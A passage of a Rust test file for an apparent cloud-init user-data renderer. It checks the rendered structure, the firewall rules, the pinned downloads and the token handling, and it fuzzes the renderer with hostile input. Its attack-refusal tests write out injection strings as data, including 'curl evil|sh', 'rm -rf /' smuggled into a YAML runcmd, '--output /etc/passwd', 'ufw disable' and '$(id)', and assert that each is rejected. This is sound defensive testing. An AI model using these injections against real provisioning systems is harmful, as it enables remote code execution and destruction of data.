//! The rendered cloud-init user data: its snapshot, its structure, its size bound, and its
//! resistance to hostile input.

// Test helpers outside `#[test]` functions unwrap and panic too: a failed assumption is a
// failed test.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stderr
)]

use std::path::PathBuf;

use openclaw_core::cloud_init::{
    GATEWAY_PORT, MAX_ADMIN_SSH_CIDRS, MAX_CONTROL_PLANE_URL_LEN, MAX_EMAIL_LEN, MAX_FQDN_LEN,
    MAX_VERSION_LEN, PACKAGES,
};
use openclaw_core::domain::InstanceId;
use openclaw_core::{
    render_user_data, BootstrapKey, CloudInitConfig, Error, SecretString, MAX_USER_DATA_BYTES,
};
use proptest::prelude::*;
use serde_yaml::Value;

const FQDN: &str = "alice.claw.example.com";

fn instance() -> InstanceId {
    "01936f6e-8a3c-7b2d-9e4f-0a1b2c3d4e5f".parse().unwrap()
}

fn key() -> BootstrapKey {
    BootstrapKey::from_bytes([42u8; 32])
}

/// The provisioning job the server is created by.
fn job() -> openclaw_core::domain::JobId {
    openclaw_core::domain::JobId::from_uuid("0192f0c1-7e5a-7cc0-8b8e-4c3f2a1b0dff".parse().unwrap())
}

fn token() -> SecretString {
    key().token_for(instance(), job())
}

fn config() -> CloudInitConfig {
    CloudInitConfig {
        openclaw_version: "2026.9.6".into(),
        node_version: "24.17.0".into(),
        node_sha256: CloudInitConfig::default().node_sha256,
        openclaw_integrity: openclaw_core::cloud_init::DEFAULT_OPENCLAW_INTEGRITY.into(),
        control_plane_url: "https://panel.example.com".into(),
        admin_ssh_cidrs: vec!["203.0.113.0/24".into(), "2001:db8::/32".into()],
        acme_email: Some("ops@example.com".into()),
    }
}

/// Pins for a Node release other than the default: both architectures, and an OpenClaw
/// integrity other than the default release's.
fn other_pins() -> (std::collections::BTreeMap<String, String>, String) {
    (
        [
            ("x64".to_string(), "a".repeat(64)),
            ("arm64".to_string(), "b".repeat(64)),
        ]
        .into(),
        format!("sha512-{}==", "A".repeat(86)),
    )
}

fn render(config: &CloudInitConfig, fqdn: &str) -> openclaw_core::Result<String> {
    render_user_data(config, instance(), fqdn, &token()).map(|s| s.expose().to_string())
}

fn parse(text: &str) -> Value {
    let body = text
        .strip_prefix("#cloud-config\n")
        .unwrap_or_else(|| panic!("no #cloud-config header:\n{text}"));
    serde_yaml::from_str(body).unwrap_or_else(|e| panic!("not YAML ({e}):\n{text}"))
}

fn field_of(result: openclaw_core::Result<String>) -> String {
    match result {
        Err(Error::InvalidInput { field, .. }) => field,
        Err(other) => panic!("expected InvalidInput, got {other}"),
        Ok(_) => panic!("expected InvalidInput, got user data"),
    }
}

/// The `write_files` entry for `path`.
fn file<'a>(doc: &'a Value, path: &str) -> &'a Value {
    doc["write_files"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|f| f["path"].as_str() == Some(path))
        .unwrap_or_else(|| panic!("no file {path}"))
}

fn content<'a>(doc: &'a Value, path: &str) -> &'a str {
    file(doc, path)["content"].as_str().unwrap()
}

/// The document's shape: every key at every level, every sequence's length, every scalar's
/// type, but none of the scalar values.
/// The admin networks the `bootcmd` firewall opens SSH to, checking that every command is
/// root's lock or one of the fixed `ufw` commands (only the network varies).
fn firewall_networks(doc: &Value) -> Vec<String> {
    let commands: Vec<Vec<String>> = doc["bootcmd"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|c| {
            c.as_sequence()
                .unwrap()
                .iter()
                .map(|a| a.as_str().unwrap().to_string())
                .collect()
        })
        .collect();
    let fixed: Vec<Vec<&str>> = vec![
        vec!["usermod", "--lock", "root"],
        vec!["ufw", "--force", "reset"],
        vec!["ufw", "default", "deny", "incoming"],
        vec!["ufw", "default", "allow", "outgoing"],
        vec!["ufw", "allow", "80/tcp"],
        vec!["ufw", "allow", "443/tcp"],
    ];
    assert_eq!(commands[..fixed.len()], fixed);
    assert_eq!(
        commands.last().unwrap(),
        &["ufw", "--force", "enable"],
        "the firewall is enabled last"
    );
    commands[fixed.len()..commands.len() - 1]
        .iter()
        .map(|c| {
            assert_eq!(c.len(), 10, "{c:?}");
            assert_eq!(c[..5], ["ufw", "allow", "proto", "tcp", "from"]);
            assert_eq!(c[6..], ["to", "any", "port", "22"]);
            c[5].clone()
        })
        .collect()
}

fn shape(value: &Value) -> String {
    match value {
        Value::Mapping(map) => {
            let entries: Vec<String> = map
                .iter()
                .map(|(k, v)| format!("{}:{}", k.as_str().unwrap_or("<non-string key>"), shape(v)))
                .collect();
            format!("{{{}}}", entries.join(","))
        }
        Value::Sequence(items) => {
            let items: Vec<String> = items.iter().map(shape).collect();
            format!("[{}]", items.join(","))
        }
        Value::String(_) => "str".into(),
        Value::Bool(_) => "bool".into(),
        Value::Number(_) => "num".into(),
        Value::Null => "null".into(),
        Value::Tagged(_) => "tagged".into(),
    }
}

// ---------------------------------------------------------------------------------------------
// Snapshot and structure

#[test]
fn snapshot() {
    let rendered = render(&config(), FQDN).unwrap();
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/snapshots/cloud_init.yaml");
    if std::env::var_os("UPDATE_SNAPSHOTS").is_some_and(|v| v == "1") {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &rendered).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (run with UPDATE_SNAPSHOTS=1 to create it)",
            path.display()
        )
    });
    assert!(
        rendered == expected,
        "the rendered user data differs from {}; if the change is intended, run with \
         UPDATE_SNAPSHOTS=1 and review the diff.\n--- rendered ---\n{rendered}",
        path.display()
    );
}

#[test]
fn rendering_is_deterministic() {
    assert_eq!(
        render(&config(), FQDN).unwrap(),
        render(&config(), FQDN).unwrap()
    );
}

#[test]
fn parses_into_the_expected_structure() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    let keys: Vec<&str> = doc
        .as_mapping()
        .unwrap()
        .keys()
        .map(|k| k.as_str().unwrap())
        .collect();
    assert_eq!(
        keys,
        [
            "ssh_pwauth",
            "bootcmd",
            "package_update",
            "packages",
            "write_files",
            "runcmd"
        ]
    );
    assert_eq!(doc["package_update"].as_bool(), Some(true));
    // No password logins over SSH; the root password locked on every boot.
    assert_eq!(doc["ssh_pwauth"].as_bool(), Some(false));
    assert_eq!(
        doc["bootcmd"][0],
        serde_yaml::from_str::<serde_yaml::Value>("[usermod, --lock, root]").unwrap()
    );

    let packages: Vec<&str> = doc["packages"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|p| p.as_str().unwrap())
        .collect();
    assert_eq!(packages, ["caddy", "ufw", "curl", "ca-certificates", "jq"]);
    assert_eq!(packages, PACKAGES);

    let files: Vec<(&str, &str, &str, bool)> = doc["write_files"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap(),
                f["owner"].as_str().unwrap(),
                f["permissions"].as_str().unwrap(),
                f["defer"].as_bool().unwrap_or(false),
            )
        })
        .collect();
    assert_eq!(
        files,
        [
            (
                "/usr/local/sbin/openclaw-install-node",
                "root:root",
                "0755",
                false
            ),
            (
                "/usr/local/sbin/openclaw-install-gateway",
                "root:root",
                "0755",
                false
            ),
            (
                "/usr/local/sbin/openclaw-bootstrap",
                "root:root",
                "0700",
                false
            ),
            (
                "/etc/systemd/system/openclaw-gateway.service",
                "root:root",
                "0644",
                false
            ),
            (
                "/usr/local/sbin/openclaw-install-agent",
                "root:root",
                "0755",
                false
            ),
            (
                "/etc/systemd/system/openclaw-agent.service",
                "root:root",
                "0644",
                false
            ),
            ("/etc/caddy/Caddyfile", "root:root", "0644", true),
            (
                "/var/lib/openclaw/.openclaw/openclaw.json",
                "root:root",
                "0600",
                false
            ),
        ]
    );

    let runcmd: Vec<Vec<&str>> = doc["runcmd"]
        .as_sequence()
        .unwrap()
        .iter()
        .map(|c| {
            c.as_sequence()
                .unwrap()
                .iter()
                .map(|a| a.as_str().unwrap())
                .collect()
        })
        .collect();
    assert_eq!(
        runcmd,
        [
            vec![
                "useradd",
                "--system",
                "--user-group",
                "--home-dir",
                "/var/lib/openclaw",
                "--shell",
                "/usr/sbin/nologin",
                "openclaw"
            ],
            vec!["chown", "-R", "openclaw:openclaw", "/var/lib/openclaw"],
            vec!["chmod", "0700", "/var/lib/openclaw"],
            // One chain, the firewall checked first: a failed step never reaches the
            // bootstrap.
            vec![
                "sh",
                "-ec",
                "ufw status | grep -qx 'Status: active' \
                 && /usr/local/sbin/openclaw-install-node && /usr/local/sbin/openclaw-install-gateway \
                 && /usr/local/sbin/openclaw-bootstrap && systemctl daemon-reload \
                 && systemctl enable --now openclaw-gateway.service \
                 && /usr/local/sbin/openclaw-install-agent \
                 && systemctl enable --now openclaw-agent.service \
                 && systemctl reload-or-restart caddy.service"
            ],
        ]
    );
}

/// A failed install stops the chain before the bootstrap: run it with stand-ins that record
/// what ran, the gateway's installer failing.
#[cfg(unix)]
#[test]
fn a_failed_install_never_reaches_the_bootstrap() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    let chain = doc["runcmd"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|c| c[0].as_str() == Some("sh"))
        .and_then(|c| c[2].as_str())
        .unwrap()
        .to_string();
    let dir = std::env::temp_dir().join(format!("openclaw-chain-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let log = dir.join("ran");
    // Every step becomes "record my name"; the gateway installer also fails.
    let rewritten = chain
        .split(" && ")
        .map(|step| {
            let fail = if step.ends_with("openclaw-install-gateway") {
                "; false"
            } else {
                ""
            };
            format!("{{ echo '{step}' >> '{}'{fail}; }}", log.display())
        })
        .collect::<Vec<_>>()
        .join(" && ");
    let status = std::process::Command::new("sh")
        .args(["-ec", &rewritten])
        .status()
        .unwrap();
    assert!(!status.success());
    let ran = std::fs::read_to_string(&log).unwrap();
    assert_eq!(
        ran.lines().collect::<Vec<_>>(),
        [
            "ufw status | grep -qx Status: active",
            "/usr/local/sbin/openclaw-install-node",
            "/usr/local/sbin/openclaw-install-gateway"
        ],
        "nothing after the failed install ran"
    );
    std::fs::remove_dir_all(dir).unwrap();
}

#[test]
fn node_is_pinned_and_checked() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    let script = content(&doc, "/usr/local/sbin/openclaw-install-node");
    assert!(script.contains("version='24.17.0'\n"), "{script}");
    assert!(script.contains(r#"base="https://nodejs.org/dist/v${version}""#));
    assert!(script.contains(r#"name="node-v${version}-linux-${arch}""#));
    assert!(script.contains(&format!(
        "x86_64) arch=x64; pinned='{}' ;;",
        openclaw_core::cloud_init::DEFAULT_NODE_SHA256_X64
    )));
    // No arm64 pin by default: the installer refuses that architecture.
    assert!(script.contains("aarch64) arch=arm64; pinned='' ;;"));
    assert!(script.contains(r#"if [ -z "$pinned" ]; then"#));
    assert!(script.contains(r#"fetch SHASUMS256.txt "$base/SHASUMS256.txt""#));
    assert!(script.contains("sha256sum --check --strict expected"));
    assert!(script
        .contains(r#"printf '%s  %s\n' "$pinned" "$name.tar.gz" | sha256sum --check --strict -"#));
    assert!(script.contains("tar -xzf \"$name.tar.gz\" -C /opt/node"));
    assert!(script.contains(r#"ln -sf "/opt/node/bin/$tool" "/usr/local/bin/$tool""#));
    // Both checksums are verified before anything is unpacked.
    assert!(script.rfind("sha256sum").unwrap() < script.find("tar -x").unwrap());

    let npm = content(&doc, "/usr/local/sbin/openclaw-install-gateway");
    assert!(npm.contains("version='2026.9.6'\n"), "{npm}");
    // npm's integrity, base64 of the SHA-512, as the hex sha512sum prints.
    use base64::Engine as _;
    let digest = base64::engine::general_purpose::STANDARD
        .decode(
            openclaw_core::cloud_init::DEFAULT_OPENCLAW_INTEGRITY
                .strip_prefix("sha512-")
                .unwrap(),
        )
        .unwrap();
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(hex.len(), 128);
    assert!(npm.contains(&format!("sha512='{hex}'\n")), "{npm}");
    assert!(npm.contains(r#"https://registry.npmjs.org/openclaw/-/openclaw-${version}.tgz"#));
    assert!(
        npm.find("sha512sum --check").unwrap() < npm.find("npm install").unwrap(),
        "checked before it is installed"
    );
    assert!(npm.contains(r#"npm install --global "$tarball""#));
    assert!(npm.contains("ln -sf /opt/node/bin/openclaw /usr/local/bin/openclaw"));
}

#[test]
fn the_gateway_unit_matches_the_design() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    let unit = content(&doc, "/etc/systemd/system/openclaw-gateway.service");
    let lines: Vec<&str> = unit.lines().collect();
    for expected in [
        "User=openclaw",
        "EnvironmentFile=/etc/openclaw/openclaw.env",
        "ExecStart=/usr/local/bin/openclaw gateway --port 18789",
        "Restart=always",
        "RestartPreventExitStatus=78",
        "After=network-online.target",
        "WantedBy=multi-user.target",
    ] {
        assert!(
            lines.contains(&expected),
            "unit lacks {expected:?}:\n{unit}"
        );
    }
    assert_eq!(GATEWAY_PORT, 18789);
}

#[test]
fn caddy_serves_the_name_and_proxies_to_loopback() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    let caddyfile = content(&doc, "/etc/caddy/Caddyfile");
    assert!(
        caddyfile.contains("{\n    email ops@example.com\n}\n"),
        "{caddyfile}"
    );
    assert!(
        caddyfile.contains("\nalice.claw.example.com {\n    reverse_proxy 127.0.0.1:18789\n}\n"),
        "{caddyfile}"
    );

    let without_email = CloudInitConfig {
        acme_email: None,
        ..config()
    };
    let doc = parse(&render(&without_email, FQDN).unwrap());
    let caddyfile = content(&doc, "/etc/caddy/Caddyfile");
    assert!(!caddyfile.contains("email"), "{caddyfile}");
    assert!(
        !caddyfile.lines().any(|l| l == "{"),
        "no global options block without an address:\n{caddyfile}"
    );
    assert!(caddyfile.contains("alice.claw.example.com {\n    reverse_proxy 127.0.0.1:18789\n}\n"));
}

#[test]
fn the_firewall_opens_web_and_admin_ssh_only() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    assert_eq!(firewall_networks(&doc), ["203.0.113.0/24", "2001:db8::/32"]);
    assert!(!serde_yaml::to_string(&doc["bootcmd"])
        .unwrap()
        .contains("18789"));
    // Applied before packages, files and downloads (`bootcmd`), and checked before the
    // first download of the install chain.
    let keys: Vec<&str> = doc
        .as_mapping()
        .unwrap()
        .keys()
        .map(|k| k.as_str().unwrap())
        .collect();
    let at = |key: &str| keys.iter().position(|k| *k == key).unwrap();
    assert!(at("bootcmd") < at("packages") && at("bootcmd") < at("write_files"));
    let chain = serde_yaml::to_string(&doc["runcmd"]).unwrap();
    assert!(
        chain.find("ufw status").unwrap() < chain.find("openclaw-install-node").unwrap(),
        "{chain}"
    );

    let closed = CloudInitConfig {
        admin_ssh_cidrs: vec![],
        ..config()
    };
    let doc = parse(&render(&closed, FQDN).unwrap());
    assert!(firewall_networks(&doc).is_empty());

    // Host bits are dropped, and a bare address is one host.
    let loose = CloudInitConfig {
        admin_ssh_cidrs: vec!["203.0.113.77/24".into(), "198.51.100.9".into()],
        ..config()
    };
    let doc = parse(&render(&loose, FQDN).unwrap());
    assert_eq!(
        firewall_networks(&doc),
        ["203.0.113.0/24", "198.51.100.9/32"]
    );
}

#[test]
fn openclaw_json_has_exactly_the_allowed_keys() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    let json: serde_json::Value =
        serde_json::from_str(content(&doc, "/var/lib/openclaw/.openclaw/openclaw.json")).unwrap();
    let expected = serde_json::json!({
        "gateway": {
            "mode": "local",
            "bind": "loopback",
            "auth": { "mode": "token" },
            "trustedProxies": ["127.0.0.1"],
            "controlUi": { "allowedOrigins": ["https://alice.claw.example.com"] }
        }
    });
    // Equality of JSON values means the same keys at every level, no more, no fewer.
    assert_eq!(json, expected);
}

#[test]
fn the_bootstrap_script_posts_the_token_once_and_writes_a_private_env_file() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    let script = content(&doc, "/usr/local/sbin/openclaw-bootstrap");
    // The token goes in a header read from curl's config on stdin: never in the URL (proxies
    // log paths), never on curl's command line.
    assert!(
        script.contains(&format!(
            "{{\n  printf 'url = \"%s\"\\n' 'https://panel.example.com/v1/bootstrap'\n  \
             printf 'header = \"Authorization: Bearer %s\"\\n' '{}'\n}} |\n  curl --config - --fail",
            token().expose()
        )),
        "{script}"
    );
    assert!(!script.contains(&format!("/v1/bootstrap/{}", token().expose())));
    for expected in [
        "--data ''",
        "--retry 10",
        "umask 077",
        "env_file=/etc/openclaw/openclaw.env",
        "install -d -o root -g root -m 0700 /etc/openclaw",
        "chmod 0600 \"$staged\"",
        "mv \"$staged\" \"$env_file\"",
        "test(\"^[A-Z][A-Z0-9_]*$\")",
    ] {
        assert!(
            script.contains(expected),
            "bootstrap lacks {expected:?}:\n{script}"
        );
    }
    // --retry-all-errors would repeat a 410 and hide that the token was already used.
    assert!(!script.contains("--retry-all-errors"));
    // A trailing slash on the control plane URL does not double the slash.
    let slash = CloudInitConfig {
        control_plane_url: "https://panel.example.com/base/".into(),
        ..config()
    };
    let doc = parse(&render(&slash, FQDN).unwrap());
    assert!(content(&doc, "/usr/local/sbin/openclaw-bootstrap")
        .contains("'https://panel.example.com/base/v1/bootstrap'"));
}

/// Every script is valid POSIX shell.
#[cfg(unix)]
#[test]
fn the_scripts_parse_as_shell() {
    let doc = parse(&render(&config(), FQDN).unwrap());
    for f in doc["write_files"].as_sequence().unwrap() {
        let text = f["content"].as_str().unwrap();
        if !text.starts_with("#!/bin/sh\n") {
            continue;
        }
        let output = std::process::Command::new("sh")
            .arg("-n")
            .arg("-c")
            .arg(text)
            .output()
            .unwrap();
        assert!(
            output.status.success(),
            "{}: {}",
            f["path"].as_str().unwrap(),
            String::from_utf8_lossy(&output.stderr)
        );
    }
}

/// The jq program of the bootstrap script turns the control plane's answer into an
/// EnvironmentFile, refusing what it must refuse. Runs when `jq` is installed.
#[cfg(unix)]
#[test]
fn the_bootstrap_filter_writes_safe_env_lines() {
    use std::io::Write as _;
    use std::process::{Command, Stdio};

    if Command::new("jq").arg("--version").output().is_err() {
        eprintln!("jq is not installed; skipping the bootstrap filter test");
        return;
    }
    let doc = parse(&render(&config(), FQDN).unwrap());
    let script = content(&doc, "/usr/local/sbin/openclaw-bootstrap");
    let program = script
        .split_once("<<'JQ'\n")
        .and_then(|(_, rest)| rest.split_once("\nJQ\n"))
        .map(|(program, _)| program)
        .unwrap();
    let run = |response: &str| {
        let mut child = Command::new("jq")
            .args(["--raw-output", program])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(response.as_bytes())
            .unwrap();
        let output = child.wait_with_output().unwrap();
        (
            output.status.success(),
            String::from_utf8(output.stdout).unwrap(),
        )
    };

    let (ok, out) = run(
        r#"{"env": {"OPENCLAW_GATEWAY_TOKEN": "abc", "ANTHROPIC_API_KEY": "a\"b\\c`d$e f'g"}}"#,
    );
    assert!(ok);
    assert_eq!(
        out,
        "OPENCLAW_GATEWAY_TOKEN=\"abc\"\nANTHROPIC_API_KEY=\"a\\\"b\\\\c\\`d\\$e f'g\"\n"
    );
    for bad in [
        r#"{"env": {"ANTHROPIC_API_KEY": "x"}}"#,
        r#"{"env": {"OPENCLAW_GATEWAY_TOKEN": "x", "lower": "y"}}"#,
        r#"{"env": {"OPENCLAW_GATEWAY_TOKEN": "x", "A B": "y"}}"#,
        r#"{"env": {"OPENCLAW_GATEWAY_TOKEN": "x", "A\nB": "y"}}"#,
        r#"{"env": {"OPENCLAW_GATEWAY_TOKEN": "x\nEVIL=1"}}"#,
        r#"{"env": {"OPENCLAW_GATEWAY_TOKEN": 1}}"#,
        r#"{"env": ["OPENCLAW_GATEWAY_TOKEN=x"]}"#,
        r#"{}"#,
    ] {
        let (ok, _) = run(bad);
        assert!(!ok, "accepted {bad}");
    }
}

/// The agent's credential is written by a filter of its own, which accepts only a token of
/// inert characters and a whole number of seconds.
#[cfg(unix)]
#[test]
fn the_bootstrap_writes_the_agent_credential_apart() {
    use std::io::Write as _;
    use std::process::{Command, Stdio};

    let doc = parse(&render(&config(), FQDN).unwrap());
    let script = content(&doc, "/usr/local/sbin/openclaw-bootstrap");
    let program = script
        .split("<<'JQ'\n")
        .nth(2)
        .and_then(|rest| rest.split_once("\nJQ\n"))
        .map(|(program, _)| program)
        .expect("a second jq program");
    assert!(script.contains("mv \"$agent_staged\" /etc/openclaw/agent.env"));
    let run = |response: &str| {
        let mut child = Command::new("jq")
            .args(["--raw-output", program])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("jq is installed (scripts/test installs it)");
        child
            .stdin
            .take()
            .unwrap()
            .write_all(response.as_bytes())
            .unwrap();
        let output = child.wait_with_output().unwrap();
        (
            output.status.success(),
            String::from_utf8(output.stdout).unwrap(),
        )
    };
    let token = "0192f0c17e5a7cc08b8e4c3f2a1b0d9e.abcdefghijklmnopqrstuvwxyzABCDEFGHIJ-_0123";
    let (ok, out) = run(&format!(
        r#"{{"env": {{}}, "agent": {{"token": "{token}", "heartbeat_seconds": 15}}}}"#
    ));
    assert!(ok);
    assert_eq!(
        out,
        format!("OPENCLAW_AGENT_TOKEN=\"{token}\"\nOPENCLAW_AGENT_HEARTBEAT=\"15\"\n")
    );
    for bad in [
        r#"{"env": {}}"#.to_string(),
        r#"{"agent": {"token": "short"}}"#.to_string(),
        format!(r#"{{"agent": {{"token": "{token}\"\nEVIL=1"}}}}"#),
        format!(r#"{{"agent": {{"token": "{token} $(id)"}}}}"#),
        r#"{"agent": {"token": 12345678901234567890}}"#.to_string(),
    ] {
        let (ok, _) = run(&bad);
        assert!(!ok, "accepted {bad}");
    }
}

// ---------------------------------------------------------------------------------------------
// Size

/// A valid DNS name of exactly `len` characters made of 63-character labels.
fn long_name(len: usize) -> String {
    let mut labels = Vec::new();
    let mut remaining = len;
    while remaining > 0 {
        let take = remaining.min(63);
        labels.push("a".repeat(take));
        remaining = remaining.saturating_sub(take + 1);
    }
    let name = labels.join(".");
    assert!(name.len() <= len);
    // Pad the last label so the total is exact (it stays at most 63).
    let short = len - name.len();
    let name = format!("{name}{}", "b".repeat(short));
    assert_eq!(name.len(), len);
    name
}

fn worst_case_config() -> CloudInitConfig {
    let host = long_name(200);
    let prefix = format!("https://{host}:65535/");
    let url = format!(
        "{prefix}{}",
        "p".repeat(MAX_CONTROL_PLANE_URL_LEN - prefix.len())
    );
    assert_eq!(url.len(), MAX_CONTROL_PLANE_URL_LEN);
    let domain = long_name(MAX_EMAIL_LEN - 65);
    let email = format!("{}@{domain}", "l".repeat(64));
    assert_eq!(email.len(), MAX_EMAIL_LEN);
    let openclaw_version = format!("1.2.3-{}", "x".repeat(MAX_VERSION_LEN - 6));
    let node_version = format!("{0}.{0}.{0}", u64::MAX);
    // The longest way std prints an IPv6 network.
    let admin_ssh_cidrs = (0..MAX_ADMIN_SSH_CIDRS)
        .map(|i| format!("ffff:ffff:ffff:ffff:ffff:ffff:ffff:{:04x}/128", 0xff00 + i))
        .collect();
    let (node_sha256, openclaw_integrity) = other_pins();
    CloudInitConfig {
        openclaw_version,
        node_version,
        node_sha256,
        openclaw_integrity,
        control_plane_url: url,
        admin_ssh_cidrs,
        acme_email: Some(email),
    }
}

#[test]
fn worst_case_inputs_fit_hetzners_limit() {
    let config = worst_case_config();
    config.validate().unwrap();
    let fqdn = long_name(MAX_FQDN_LEN);
    assert!(fqdn.split('.').all(|l| l.len() <= 63));
    let rendered = render(&config, &fqdn).unwrap();
    assert!(
        rendered.len() <= MAX_USER_DATA_BYTES,
        "{} bytes > {MAX_USER_DATA_BYTES}",
        rendered.len()
    );
    // Still a well-formed document with every value in it.
    let mut doc = parse(&rendered);
    assert_eq!(firewall_networks(&doc).len(), MAX_ADMIN_SSH_CIDRS);
    let mut baseline = parse(&render(&self::config(), FQDN).unwrap());
    doc["bootcmd"] = Value::Null;
    baseline["bootcmd"] = Value::Null;
    assert_eq!(shape(&doc), shape(&baseline));
    assert!(content(&doc, "/etc/caddy/Caddyfile").contains(&fqdn));
}

#[test]
fn every_length_bound_is_enforced() {
    let base = worst_case_config();
    let fqdn = long_name(MAX_FQDN_LEN);

    let mut cidrs = base.clone();
    cidrs.admin_ssh_cidrs.push("10.0.0.0/8".into());
    assert_eq!(
        field_of(render(&cidrs, &fqdn)),
        "cloud_init.admin_ssh_cidrs"
    );

    let mut version = base.clone();
    version.openclaw_version.push('x');
    assert_eq!(
        field_of(render(&version, &fqdn)),
        "cloud_init.openclaw_version"
    );

    let mut url = base.clone();
    url.control_plane_url.push('p');
    assert_eq!(
        field_of(render(&url, &fqdn)),
        "cloud_init.control_plane_url"
    );

    let mut email = base.clone();
    email.acme_email = Some(format!("x{}", base.acme_email.clone().unwrap()));
    assert_eq!(field_of(render(&email, &fqdn)), "cloud_init.acme_email");

    let mut node = base.clone();
    node.node_version = format!("1{}.0.0", u64::MAX);
    assert_eq!(field_of(render(&node, &fqdn)), "cloud_init.node_version");

    assert_eq!(field_of(render(&base, &format!("a{fqdn}"))), "fqdn");
}

// ---------------------------------------------------------------------------------------------
// Hostile input

#[test]
fn hand_picked_attacks_are_refused() {
    let fqdn_attack = render(&config(), "a.com\nruncmd: [rm -rf /]");
    assert_eq!(field_of(fqdn_attack), "fqdn");
    for fqdn in [
        "a.com\" ", "a.com: x", "a.com #x", "{a.com}", "- a.com", "a.com|x", "ä.com", "",
    ] {
        assert_eq!(field_of(render(&config(), fqdn)), "fqdn", "{fqdn:?}");
    }

    let version = CloudInitConfig {
        openclaw_version: "1.0\"; curl evil|sh; \"".into(),
        ..config()
    };
    assert_eq!(
        field_of(render(&version, FQDN)),
        "cloud_init.openclaw_version"
    );
    let version = CloudInitConfig {
        openclaw_version: "latest".into(),
        ..config()
    };
    assert_eq!(
        field_of(render(&version, FQDN)),
        "cloud_init.openclaw_version"
    );
    let node = CloudInitConfig {
        node_version: "24.17.0'; reboot; '".into(),
        ..config()
    };
    assert_eq!(field_of(render(&node, FQDN)), "cloud_init.node_version");
    let node = CloudInitConfig {
        node_version: "22.22.0".into(),
        ..config()
    };
    assert_eq!(field_of(render(&node, FQDN)), "cloud_init.node_version");

    for url in [
        "https://panel.example.com/'; curl evil|sh; '",
        "https://panel.example.com/\nruncmd: [x]",
        "https://panel.example.com/\" --output /etc/passwd \"",
        "https://panel.example.com?x=1",
        "http://panel.example.com",
        "https://evil.example@panel.example.com",
    ] {
        let c = CloudInitConfig {
            control_plane_url: url.into(),
            ..config()
        };
        assert_eq!(
            field_of(render(&c, FQDN)),
            "cloud_init.control_plane_url",
            "{url:?}"
        );
    }
    for cidr in [
        "10.0.0.0/8\nruncmd: [x]",
        "10.0.0.0/8' ; ufw disable; '",
        "any",
        "0/0",
    ] {
        let c = CloudInitConfig {
            admin_ssh_cidrs: vec![cidr.into()],
            ..config()
        };
        assert_eq!(
            field_of(render(&c, FQDN)),
            "cloud_init.admin_ssh_cidrs",
            "{cidr:?}"
        );
    }
    for email in [
        "ops@example.com\n}\nevil.com {",
        "{$GATEWAY_TOKEN}@example.com",
        "o ps@example.com",
        "ops@example.com #",
    ] {
        let c = CloudInitConfig {
            acme_email: Some(email.into()),
            ..config()
        };
        assert_eq!(
            field_of(render(&c, FQDN)),
            "cloud_init.acme_email",
            "{email:?}"
        );
    }
}

#[test]
fn the_token_must_be_well_formed_and_for_this_instance() {
    let other = InstanceId::new();
    let foreign = key().token_for(other, job());
    let result = render_user_data(&config(), instance(), FQDN, &foreign);
    assert!(
        matches!(result, Err(Error::InvalidInput { ref field, .. }) if field == "bootstrap_token")
    );

    let good = token();
    for bad in [
        String::new(),
        format!("{}\nruncmd: [x]", good.expose()),
        good.expose().replace('.', "'"),
        format!("{}'", &good.expose()[..good.expose().len() - 1]),
        good.expose().to_uppercase(),
        "x".repeat(76),
    ] {
        let result = render_user_data(&config(), instance(), FQDN, &SecretString::new(bad.clone()));
        assert!(
            matches!(result, Err(Error::InvalidInput { ref field, .. }) if field == "bootstrap_token"),
            "{bad:?}"
        );
    }
}

fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[ \n\r\t\"'\\\\:#{}\\[\\],&*!|>%@`$;/\\-?.a-z0-9\u{85}\u{2028}\u{2029}\u{FEFF}\u{0}\u{1b}é日🦀]{0,24}",
    ]
}

/// A field value: usually valid, sometimes a valid value with something hostile around or in
/// it, sometimes anything at all.
fn field(valid: &'static [&'static str]) -> impl Strategy<Value = String> {
    let valid_value = proptest::sample::select(valid).prop_map(str::to_string);
    let spliced =
        (proptest::sample::select(valid), fragment(), 0usize..3).prop_map(|(v, f, at)| match at {
            0 => format!("{f}{v}"),
            1 => format!("{v}{f}"),
            _ => {
                let mid = v.len() / 2;
                format!("{}{f}{}", &v[..mid], &v[mid..])
            }
        });
    prop_oneof![3 => valid_value, 3 => spliced, 1 => fragment()]
}

fn hostile_config() -> impl Strategy<Value = (CloudInitConfig, String)> {
    (
        field(&["2026.9.6", "1.2.3-rc.1", "0.0.1+build.7"]),
        field(&["24.17.0", "26.1.0", "24.15.3"]),
        field(&[
            "https://panel.example.com",
            "https://10.0.0.1:8443/api",
            "http://127.0.0.1:3000/x",
        ]),
        proptest::collection::vec(
            field(&["203.0.113.0/24", "2001:db8::/32", "198.51.100.7"]),
            0..4,
        ),
        proptest::option::of(field(&["ops@example.com", "a.b+c@mail.example.org"])),
        field(&["alice.claw.example.com", "x-1.example.io", "b.c"]),
    )
        .prop_map(
            |(
                openclaw_version,
                node_version,
                control_plane_url,
                admin_ssh_cidrs,
                acme_email,
                fqdn,
            )| {
                let (node_sha256, openclaw_integrity) = other_pins();
                (
                    CloudInitConfig {
                        openclaw_version,
                        node_version,
                        node_sha256,
                        openclaw_integrity,
